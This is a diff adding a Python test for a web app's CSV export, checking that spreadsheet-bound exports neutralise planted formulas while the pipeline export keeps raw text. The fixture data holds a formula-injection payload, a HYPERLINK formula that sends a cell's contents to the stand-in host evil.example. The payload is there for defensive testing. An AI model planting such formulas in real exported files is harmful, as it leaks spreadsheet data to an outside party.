@@ -246,6 +246,27 @@ def test_the_export_holds_the_labelled_components_and_the_pipeline_accepts_it(
     assert (entry.actor, entry.entity, entry.after) == ("tina", "export", {"rows": 3})
 
 
+def test_the_spreadsheet_export_shows_planted_formulas_as_text_and_the_pipeline_export_keeps_them(
+        client: TestClient, sessions: sessionmaker, scoring: ScriptedScoring, settings: Settings) -> None:
+    csrf = sign_in(client, "tina")
+    planted = ("text,supplier,category,label\n"
+               '"=HYPERLINK(""http://evil.example/?x=""&A2,""spec"")",=1+1,@SUM(A1),compliant\n'
+               "+lead-free brake pad,-Acme,normal,compliant\n")
+    assert upload(client, csrf, planted).status_code == 200
+    inventory.classify_pending(sessions, scoring, settings)
+
+    safe = client.get("/transfer/export.csv", params={"for": "spreadsheet"})
+    verbatim = client.get("/transfer/export.csv")
+
+    assert safe.status_code == 200 and "-spreadsheet.csv" in safe.headers["content-disposition"]
+    cells = {(row["text"], row["supplier"], row["category"]) for row in csv.DictReader(io.StringIO(safe.text))}
+    assert cells == {("\'=HYPERLINK(\"http://evil.example/?x=\"&A2,\"spec\")", "\'=1+1", "\'@SUM(A1)"),
+                     ("\'+lead-free brake pad", "\'-Acme", "normal")}
+    texts = {row["text"] for row in csv.DictReader(io.StringIO(verbatim.text))}
+    assert texts == {'=HYPERLINK("http://evil.example/?x="&A2,"spec")', "+lead-free brake pad"}
+    assert client.get("/transfer/export.csv", params={"for": "excel"}).status_code == 400
+
+
 def test_an_upload_over_the_body_limit_is_refused_before_it_is_read(client: TestClient) -> None:
     from specscan.webapp.app import MAX_BODY_BYTES
 
